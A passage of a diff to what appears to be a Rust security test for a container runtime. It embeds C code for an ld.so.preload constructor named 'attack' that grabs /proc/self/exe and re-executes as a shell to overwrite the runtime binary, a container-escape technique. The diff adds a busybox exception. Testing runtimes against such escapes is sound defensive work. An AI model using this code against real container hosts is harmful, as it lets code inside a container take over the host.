@@ -14,12 +14,15 @@ use crate::case::{Doing, Outcome, check, check_eq};
 use crate::output::run;
 
 /// Loaded into every dynamic program of the container by /etc/ld.so.preload: in the runtime's own, it takes hold of that file
-/// and becomes a shell that writes to it, as soon as nobody executes it any more.
+/// and becomes a shell that writes to it, as soon as nobody executes it any more. busybox it leaves alone: the shell is that.
 const PRELOADED: &str = r#"
 #include <fcntl.h>
+#include <string.h>
 #include <unistd.h>
 extern char **environ;
 __attribute__((constructor)) static void attack(void) {
+    char self[4096] = "";
+    if (readlink("/proc/self/exe", self, sizeof self - 1) > 0 && strstr(self, "/busybox")) return;
     int fd = open("/proc/self/exe", O_RDONLY);
     if (fd < 0 || dup2(fd, 9) < 0) return;
     char *words[] = { "sh", "/bin/overwrite", 0 };
